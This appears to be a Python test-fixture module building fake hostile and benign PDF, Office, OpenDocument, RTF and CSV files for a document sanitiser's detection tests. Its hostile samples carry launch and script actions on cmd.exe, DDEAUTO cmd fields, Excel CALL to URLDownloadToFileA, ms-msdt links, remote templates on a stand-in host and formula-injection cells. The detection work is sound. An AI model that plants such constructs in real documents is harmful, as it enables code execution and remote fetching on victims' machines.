@@ -1,0 +1,353 @@
+"""Documents that mean harm, and honest ones that look a little like them; all made here, none of them works.
+
+HOSTILE and HONEST: {name: (media type, content)}. Sources of the kinds: the findings of the security review, and the lists of
+oletools, pdfid and Dangerzone.
+"""
+
+import io
+import zipfile
+
+from pypdf.generic import ArrayObject, BooleanObject, DictionaryObject, NameObject, NumberObject, StreamObject, TextStringObject
+
+from tests.files import samples
+from tests.files.samples import DOCX, ODT, XLSX
+
+PDF, DOC, XLS, RTF, TEXT = "application/pdf", "application/msword", "application/vnd.ms-excel", "application/rtf", "text/plain"
+KINDS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"
+FAR = "https://ver.example/x"
+EVIL = "\\\\ver\\deel\\x"
+
+
+# --- PDF
+
+
+def word(value):
+    """Python values as those of a PDF: '/Name' is a name."""
+    if isinstance(value, dict):
+        return DictionaryObject({NameObject(key): word(inner) for key, inner in value.items()})
+    if isinstance(value, list):
+        return ArrayObject(map(word, value))
+    if isinstance(value, bool):
+        return BooleanObject(value)
+    if isinstance(value, int):
+        return NumberObject(value)
+    if isinstance(value, str):
+        return NameObject(value) if value.startswith("/") else TextStringObject(value)
+    return value
+
+
+def pdf(root=None, page=None, note=None, stream=None):
+    """A PDF with these entries in its catalogue, its page, one note on it, or one stream."""
+
+    def change(writer):
+        for place, entries in ((writer._root_object, root), (writer.pages[0], page)):
+            for key, value in (entries or {}).items():
+                place[NameObject(key)] = word(value)
+        if note:
+            mark = word({"/Type": "/Annot", "/Rect": [0, 0, 10, 10], **note})
+            writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(mark)])
+        if stream:
+            body = StreamObject()
+            body.set_data(b"x")
+            body.update(word(stream))
+            writer._add_object(body)
+
+    return PDF, samples.pdf("Verslag", change=change)
+
+
+def action(kind, **more):
+    return {"/S": kind, **{f"/{key}": value for key, value in more.items()}}
+
+
+LINK = {"/Subtype": "/Link"}
+FILE = {"/F": "lijst.txt", "/EF": {"/F": {"/Length": 0}}}
+PDF_HOSTILE = {
+    "opent een script": pdf(root={"/OpenAction": action("/JavaScript", JS="app.alert(1)")}),
+    "script zonder soort": pdf(root={"/OpenAction": {"/JS": "app.alert(1)"}}),
+    "start een programma": pdf(root={"/OpenAction": action("/Launch", F="cmd.exe")}),
+    "start een programma na een klik": pdf(note=LINK | {"/A": action("/Launch", F="cmd.exe")}),
+    "bladzijde opent een deel": pdf(page={"/AA": {"/O": action("/GoToR", F=EVIL, D=[0, "/Fit"])}}),
+    "klik opent een deel": pdf(note=LINK | {"/A": action("/GoToR", F=EVIL, D=[0, "/Fit"])}),
+    "opent een webpagina": pdf(root={"/OpenAction": action("/URI", URI=FAR)}),
+    "bladzijde opent een webpagina": pdf(page={"/AA": {"/O": action("/URI", URI=FAR)}}),
+    "muis opent een webpagina": pdf(note=LINK | {"/AA": {"/E": action("/URI", URI=FAR)}}),
+    "tweede opdracht": pdf(root={"/OpenAction": action("/GoTo", D=[0], Next=action("/URI", URI=FAR))}),
+    "klik op een script": pdf(note=LINK | {"/A": action("/URI", URI="javascript:app.alert(1)")}),
+    "stuurt een formulier": pdf(note={"/Subtype": "/Widget", "/FT": "/Btn", "/A": action("/SubmitForm", F=FAR)}),
+    "haalt gegevens op": pdf(root={"/OpenAction": action("/ImportData", F="x.fdf")}),
+    "bijlage zonder soort": pdf(root={"/Names": {"/EmbeddedFiles": {"/Names": ["lijst.txt", FILE]}}}),
+    "bijlage bij een bladzijde": pdf(page={"/AF": [FILE]}),
+    "bijlage als aantekening": pdf(note={"/Subtype": "/FileAttachment", "/FS": {"/F": "x.exe"}}),
+    "verborgen bijlage": pdf(root={"/Geheim": FILE}),
+    "opent een bijlage": pdf(root={"/OpenAction": action("/GoToE", D=[0])}),
+    "stroom op een adres": pdf(stream={"/F": {"/FS": "/URL", "/F": FAR}}),
+    "PostScript": pdf(stream={"/Type": "/XObject", "/Subtype": "/PS"}),
+    "bladzijde van elders": pdf(stream={"/Type": "/XObject", "/Subtype": "/Form", "/Ref": {"/F": FAR}}),
+    "XFA-formulier": pdf(root={"/AcroForm": {"/Fields": [], "/XFA": "<xdp/>"}}),
+    "film": pdf(note={"/Subtype": "/Movie", "/Movie": {"/F": "x.mov"}}),
+    "geluid": pdf(note={"/Subtype": "/Sound"}),
+    "Flash": pdf(note={"/Subtype": "/RichMedia"}),
+    "driedimensionaal": pdf(note={"/Subtype": "/3D"}),
+    "scherm": pdf(note={"/Subtype": "/Screen"}),
+    "onbekende opdracht": pdf(root={"/OpenAction": action("/Nieuw")}),
+}
+PDF_HONEST = {
+    "gewoon": pdf(),
+    "opent op de eerste bladzijde": pdf(root={"/OpenAction": action("/GoTo", D=[0, "/Fit"])}),
+    "koppeling na een klik": pdf(note=LINK | {"/A": action("/URI", URI="https://www.nvog.nl/richtlijn")}),
+    "mailadres na een klik": pdf(note=LINK | {"/A": action("/URI", URI="mailto:info@example.org")}),
+    "ander bestand na een klik": pdf(note=LINK | {"/A": action("/GoToR", F="bijlage.pdf", D=[0, "/Fit"])}),
+    "sprong in het document": pdf(note=LINK | {"/Dest": [0, "/Fit"]}),
+    "opent met afdrukken": pdf(root={"/OpenAction": action("/Named", N="/Print")}),
+    "opmerking": pdf(note={"/Subtype": "/Text", "/Contents": "Graag nakijken"}),
+    "markering": pdf(note={"/Subtype": "/Highlight", "/QuadPoints": [0, 0, 1, 0, 0, 1, 1, 1]}),
+    "stempel": pdf(note={"/Subtype": "/Stamp", "/Name": "/Draft"}),
+    "tekening": pdf(note={"/Subtype": "/Ink", "/InkList": [[0, 0, 1, 1]]}),
+    "formulierveld": (PDF, samples.pdf("x", field=("naam", "waarde"))),
+    "invulveld dat gewist wordt": pdf(note={"/Subtype": "/Widget", "/FT": "/Btn", "/A": action("/ResetForm")}),
+    "doorschijnend": pdf(page={"/Group": {"/S": "/Transparency", "/CS": "/DeviceRGB"}}),
+    "bladnummers": pdf(root={"/PageLabels": {"/Nums": [0, {"/S": "/D"}]}}),
+    "kleurprofiel voor archief": pdf(root={"/OutputIntents": [{"/S": "/GTS_PDFA1", "/OutputConditionIdentifier": "sRGB"}]}),
+    "gemerkt voor voorlezen": pdf(
+        root={"/StructTreeRoot": {"/Type": "/StructTreeRoot", "/K": {"/S": "/P", "/A": {"/O": "/Layout"}}}}
+    ),
+    "lagen": pdf(note=LINK | {"/A": action("/SetOCGState", State=[])}),
+    "foto": (PDF, samples.pdf("x", change=samples.with_photo)),
+    "handtekening": (PDF, samples.pdf("x", change=samples.with_signature)),
+}
+
+
+# --- Word and Excel
+
+
+def rels(kind, target, mode="Internal", family=KINDS):
+    return (f'<Relationships xmlns="{samples.RELATIONS}"><Relationship Id="r9" Type="{family}/{kind}" Target="{target}" '
+            f'TargetMode="{mode}"/></Relationships>')  # fmt: skip
+
+
+def linked(kind, target, mode="External", family=KINDS, part="document"):
+    return DOCX, samples.docx(**{f"word___rels__{part}.xml.rels": rels(kind, target, mode, family)})
+
+
+def field(text, simple=False, pieces=1):
+    """A Word document whose footer has a field with this instruction, cut into `pieces`."""
+    text = text.replace("&", "&amp;").replace('"', "&quot;")
+    size = -(-len(text) // pieces)
+    runs = "".join(f"<w:instrText>{text[at : at + size]}</w:instrText>" for at in range(0, len(text), size))
+    begin, between, end = (f'<w:fldChar w:fldCharType="{kind}"/>' for kind in ("begin", "separate", "end"))
+    body = f'<w:fldSimple w:instr="{text}"/>' if simple else f"{begin}{runs}{between}<w:t>uitkomst</w:t>{end}"
+    return DOCX, samples.docx(**{"word__footer1.xml": f"<w:ftr {samples.W}>{body}</w:ftr>"})
+
+
+def typed(content_type, name="word/deel.bin"):
+    types = (
+        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="'
+        'application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
+        '<Default Extension="jpeg" ContentType="image/jpeg"/>'
+        f'<Override PartName="/{name}" ContentType="{content_type}"/></Types>'
+    )
+    return DOCX, samples.docx(**{"[Content_Types].xml": types, name: b"<x/>"})
+
+
+SHEET = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
+
+
+def formula(text):
+    return sheet(f"<sheetData><row><c><f>{text.replace('&', '&amp;').replace('<', '&lt;')}</f></c></row></sheetData>")
+
+
+def sheet(body):
+    return XLSX, repacked(samples.xlsx(), {"xl/worksheets/sheet1.xml": f"<worksheet {SHEET}>{body}</worksheet>"})
+
+
+def repacked(content, changed):
+    with zipfile.ZipFile(io.BytesIO(content)) as source:
+        parts = {name: source.read(name) for name in source.namelist()}
+    return samples.package(parts | changed)
+
+
+MACRO_TYPE = "application/vnd.ms-office.vbaProject"
+OFFICE_HOSTILE = {
+    "macro's": (DOCX, samples.docx(**{"word__vbaProject.bin": b"x"})),
+    "macro's onder een andere naam": typed(MACRO_TYPE, "word/notities.bin"),
+    "macro's door een verwijzing": linked("vbaProject", "notities.bin", "Internal", MICROSOFT),
+    "werkblad van Excel 4": typed("application/vnd.ms-excel.macrosheet+xml", "xl/gewoon.xml"),
+    "dialoogblad": typed("application/vnd.openxmlformats-officedocument.spreadsheetml.dialogsheet+xml", "xl/d.xml"),
+    "menu van een ander": (DOCX, samples.docx(**{"customUI__customUI14.xml": f'<customUI onLoad="{FAR}"/>'})),
+    "menu onder een andere naam": (DOCX, samples.docx(**{"knoppen.xml": '<customUI xmlns="x" onLoad="y"/>'})),
+    "menu door een verwijzing": linked("ui/extensibility", "knoppen.xml", "Internal", MICROSOFT),
+    "toetsen": typed("application/vnd.ms-word.keyMapCustomizations+xml", "word/toetsen.xml"),
+    "ingebed voorwerp": typed("application/vnd.openxmlformats-officedocument.oleObject", "word/embeddings/x.bin"),
+    "ingebed programma": (DOCX, samples.docx(**{"word__embeddings__x.exe": b"MZ"})),
+    "ActiveX": typed("application/vnd.ms-office.activeX+xml", "word/a.xml"),
+    "ingevoegde webpagina": linked("aFChunk", "x.html", "Internal"),
+    "sjabloon van elders": linked("attachedTemplate", FAR, part="settings"),
+    "sjabloon van een deel": linked("attachedTemplate", EVIL, part="settings"),
+    "kader van elders": linked("frame", FAR, part="webSettings"),
+    "deeldocument van elders": linked("subDocument", FAR),
+    "plaatje van elders": linked("image", FAR),
+    "film van elders": linked("video", FAR),
+    "voorwerp van elders": linked("oleObject", FAR),
+    "onbekende verwijzing naar elders": linked("nieuwigheid", FAR),
+    "samenvoegbron van elders": linked("mailMergeSource", EVIL, part="settings"),
+    "klik op een script": linked("hyperlink", "javascript:alert(1)"),
+    "klik op een opdracht": linked("hyperlink", "ms-msdt:/id PCWDiagnostic"),
+    "DDE": field("DDE cmd /c"),
+    "DDEAUTO in stukken": field("DDEAUTO c:\\\\windows\\\\cmd.exe", pieces=6),
+    "DDE in één": field("DDEAUTO cmd", simple=True),
+    "INCLUDEPICTURE van elders": field(f'INCLUDEPICTURE "{FAR}" \\d'),
+    "INCLUDETEXT van een deel": field('INCLUDETEXT "\\\\\\\\ver\\\\x.docx"'),
+    "LINK van elders": field(f'LINK Excel.Sheet.12 "{FAR}" "Blad1!R1C1" \\a'),
+    "IMPORT van elders": field(f"IMPORT {FAR}"),
+    "RD van elders": field(f'RD "{FAR}"'),
+    "DATABASE": field('DATABASE \\d "x" \\c "DSN=x"'),
+    "MACROBUTTON": field("MACROBUTTON Uitvoeren Klik hier"),
+    "onbekend veld": field("NIEUWVELD x"),
+    "getekend plaatje van elders": (DOCX, samples.docx(**{"word__t.xml": f'<x xmlns:v="v"><v:imagedata src="{FAR}"/></x>'})),
+    "WEBSERVICE": formula(f'_xlfn.WEBSERVICE("{FAR}")'),
+    "IMAGE": formula(f'_xlfn.IMAGE("{FAR}")'),
+    "RTD": formula('RTD("x",,"y")'),
+    "CALL": formula('CALL("urlmon","URLDownloadToFileA","JJCCJJ",0)'),
+    "EXEC": formula('EXEC("cmd")'),
+    "DDE in een cel": formula("cmd|'/c calc'!A0"),
+    "HYPERLINK naar een script": formula('HYPERLINK("javascript:x","klik")'),
+    "onbekende functie": formula("NIEUWEFUNCTIE(1)"),
+    "verbinding": typed("application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml", "xl/connections.xml"),
+    "opvraging": typed("application/vnd.openxmlformats-officedocument.spreadsheetml.queryTable+xml", "xl/q.xml"),
+    "gegevens uit een programma": typed("application/vnd.openxmlformats-officedocument.spreadsheetml.volatileDependencies+xml"),
+    "DDE in een werkmap": (XLSX, samples.docx(**{"xl__e.xml": '<externalLink><ddeLink ddeService="cmd"/></externalLink>'})),
+}
+OFFICE_HONEST = {
+    "gewoon": (DOCX, samples.docx("x")),
+    "werkmap": (XLSX, samples.xlsx()),
+    "werkmap in een document": (DOCX, samples.docx(**{"word__embeddings__tabel.xlsx": samples.xlsx()})),
+    "sjabloon op de eigen computer": linked("attachedTemplate", "file:///C:\\Sjablonen\\brief.dotx", part="settings"),
+    "sjabloon bij naam": linked("attachedTemplate", "Normal.dotm", part="settings"),
+    "plaatje uit een mail": linked("image", "cid:image001.png"),
+    "koppeling na een klik": linked("hyperlink", "https://www.nvog.nl/"),
+    "mailadres na een klik": linked("hyperlink", "mailto:info@example.org"),
+    "klik op een deel": linked("hyperlink", "file:///C:/stukken/brief.docx"),
+    "opmerkingen": linked("comments", "comments.xml", "Internal"),
+    "mensen": linked("people", "people.xml", "Internal", "http://schemas.microsoft.com/office/2011/relationships"),
+    "strikt": linked("image", "media/image1.jpeg", "Internal", "http://purl.oclc.org/ooxml/officeDocument/relationships"),
+    "verwijzing met andere letters": linked(
+        "image", "media/image1.jpeg", "Internal", KINDS.replace("officeDocument", "officedocument")
+    ),
+    "bladnummer": field("PAGE"),
+    "aantal bladen": field(" NUMPAGES \\* MERGEFORMAT "),
+    "datum": field('DATE \\@ "d MMMM yyyy"', simple=True),
+    "inhoudsopgave": field('TOC \\o "1-3" \\h \\z \\u'),
+    "koppeling in een veld": field('HYPERLINK "https://www.nvog.nl/"'),
+    "literatuur": field('ADDIN ZOTERO_ITEM CSL_CITATION {"citationID":"DDE"}'),
+    "invulplek": field("MACROBUTTON NoMacro [Klik hier en typ de naam]"),
+    "samenvoegveld": field("MERGEFIELD Naam"),
+    "plaatje uit een mail in een veld": field('INCLUDEPICTURE "cid:image001.png@01D" \\* MERGEFORMATINET'),
+    "rekensom": field("= 2 + 3"),
+    "voorwaarde": field('IF 1 = 1 "DDE" "INCLUDETEXT"'),
+    "in stukken": field("NUMPAGES", pieces=4),
+    "som": formula("SUM(A1:A3)"),
+    "zoeken": formula("IFERROR(VLOOKUP(A1,Blad2!A:B,2,FALSE),0)"),
+    "nieuwe functies": formula("_xlfn.XLOOKUP(A1,B:B,_xlfn._xlws.SORT(C:C))"),
+    "namen in een formule": formula("_xlfn.LET(_xlpm.x,1,_xlpm.x+1)"),
+    "tabelkop met haakjes": formula("SUM(Tabel1[leeftijd (jaren)])"),
+    "tekst met streep": formula('IF(A1="a|b","DDE(x)",1)'),
+    "koppeling in een cel": formula('HYPERLINK("https://www.nvog.nl/","klik")'),
+    "draaitabel": typed("application/vnd.openxmlformats-officedocument.spreadsheetml.pivotTable+xml", "xl/p.xml"),
+}
+for name in ("mensen", "draaitabel"):
+    OFFICE_HONEST[name] = (DOCX, OFFICE_HONEST[name][1])
+
+
+# --- OpenDocument
+
+SPACES = {"office": "office", "text": "text", "draw": "drawing", "table": "table", "script": "script", "form": "form"}
+NAMES = " ".join(f'xmlns:{short}="urn:oasis:names:tc:opendocument:xmlns:{long}:1.0"' for short, long in SPACES.items())
+NAMES += ' xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:xf="http://www.w3.org/2002/xforms"'
+
+
+def odt(body="", name="content.xml", **more):
+    content = f"<office:document-content {NAMES}><office:body>{body}</office:body></office:document-content>"
+    parts = {"mimetype": ODT, "content.xml": content}
+    return ODT, samples.package(parts | ({name: body} if name != "content.xml" else {}) | more)
+
+
+EVENT = '<script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="macro:///x"/>'
+ODT_HOSTILE = {
+    "macro bij openen": odt(f"<office:event-listeners>{EVENT}</office:event-listeners>"),
+    "Basic": odt("<x/>", name="Basic/Standard/x.xml"),
+    "scripts": odt("print(1)", name="Scripts/python/x.py"),
+    "toetsen": odt("<x/>", name="Configurations2/accelerator/current.xml"),
+    "DDE": odt('<office:dde-source office:dde-application="cmd"/>'),
+    "DDE-verbinding": odt('<text:dde-connection-decl office:dde-application="cmd"/>'),
+    "ingebed voorwerp": odt('<draw:object-ole xlink:href="./x"/>'),
+    "invoegtoepassing": odt('<draw:plugin xlink:href="x"/>'),
+    "kader": odt(f'<draw:floating-frame xlink:href="{FAR}"/>'),
+    "plaatje van elders": odt(f'<draw:image xlink:href="{FAR}"/>'),
+    "gedeelte van elders": odt(f'<text:section-source xlink:href="{FAR}"/>'),
+    "tabel van elders": odt(f'<table:table-source xlink:href="{FAR}"/>'),
+    "klik op een macro": odt('<text:a xlink:href="macro:///x"/>'),
+    "klik op een script": odt('<text:a xlink:href="vnd.sun.star.script:x"/>'),
+    "XForms": odt("<xf:model/>"),
+    "onbekend onderdeel": odt("x", name="geheim.bin"),
+    "voorwerp": odt("x", name="Object 1"),
+}
+ODT_HONEST = {
+    "gewoon": (ODT, samples.odt()),
+    "lege scripts": odt("<office:scripts/>"),
+    "koppeling na een klik": odt('<text:a xlink:href="https://www.nvog.nl/"/>'),
+    "eigen plaatje": odt('<draw:image xlink:href="Pictures/1.png"/>', **{"Pictures/1.png": samples.png()}),
+    "lege toetsen": odt("", name="Configurations2/accelerator/current.xml"),
+    "grafiek": odt("<x/>", name="Object 1/content.xml"),
+}
+
+
+# --- RTF, old Word and Excel, tables in text
+
+
+def rtf(part):
+    return RTF, rb"{\rtf1\ansi " + part + rb" Verslag\par}"
+
+
+def doc(command):
+    return DOC, samples.ole({"WordDocument": bytes(64) + f"\x13 {command} \x14x\x15".encode("cp1252")})
+
+
+OLD_HOSTILE = {
+    "RTF: voorwerp": rtf(rb"{\object\objemb{\*\objdata 0105}}"),
+    "RTF: gekoppeld voorwerp": rtf(rb"{\object\objautlink}"),
+    "RTF: sjabloon van elders": rtf(rb"{\*\template https://ver.example/x.dotm}"),
+    "RTF: INCLUDEPICTURE in stukken": rtf(rb'{\field{\*\fldinst {INCL}{UDEPICTURE "https://ver.example/x"}}}'),
+    "RTF: INCLUDETEXT": rtf(rb'{\field{\*\fldinst INCLUDETEXT "https://ver.example/x"}}'),
+    "RTF: DDE": rtf(rb"{\field{\*\fldinst DDEAUTO cmd}}"),
+    "RTF: samenvoegen": rtf(rb"{\*\mailmerge{\*\mmconnectstr DSN=x}}"),
+    "Word 2003: DDE": doc("DDEAUTO cmd /c"),
+    "Word 2003: INCLUDETEXT": doc(f'INCLUDETEXT "{FAR}"'),
+    "Word 2003: LINK": doc(f'LINK Excel.Sheet.8 "{FAR}"'),
+    "Word 2003: onbekende map": (DOC, samples.ole({"WordDocument": bytes(64), "Programma": b"MZ"})),
+    "Word 2003: macro's": (DOC, samples.ole({"WordDocument": bytes(64), "_VBA_PROJECT_CUR": b"x"})),
+    "Excel 2003: blad met macro's": (XLS, samples.ole({"Workbook": samples.book(bytes(5) + b"\1")})),
+}
+OLD_HONEST = {
+    "RTF": rtf(b""),
+    "RTF: sjabloon bij naam": rtf(rb"{\*\template Normal.dotm}"),
+    "RTF: bladnummer": rtf(rb"{\field{\*\fldinst PAGE}{\fldrslt 1}}"),
+    "RTF: koppeling": rtf(rb'{\field{\*\fldinst HYPERLINK "https://www.nvog.nl/"}{\fldrslt klik}}'),
+    "Word 2003": (DOC, samples.ole({"WordDocument": bytes(64)})),
+    "Word 2003: bladnummer": doc("PAGE"),
+    "Word 2003: koppeling": doc('HYPERLINK "https://www.nvog.nl/"'),
+    "Excel 2003": (XLS, samples.ole({"Workbook": samples.book(bytes(6))})),
+}
+
+
+def together(**families):
+    return {f"{family}: {name}": file for family, files in families.items() for name, file in files.items()}
+
+
+HOSTILE = together(pdf=PDF_HOSTILE, office=OFFICE_HOSTILE, odt=ODT_HOSTILE, oud=OLD_HOSTILE)
+HONEST = together(pdf=PDF_HONEST, office=OFFICE_HONEST, odt=ODT_HONEST, oud=OLD_HONEST)
+# Tables in text: whether their name makes a program for tables open them.
+TABLES = {
+    "=cmd|'/c calc'!A0;1\n": False, "naam;=1+1\n": False, "@SUM(A1)\n": False, "+cmd|x\n": False,
+    '"=HYPERLINK(""x"")"\n': False,
+          "naam;waarde\nHb;4,2\n": True, "-1;+2;-3,5\n": True, "- ;–\n": True}  # fmt: skip
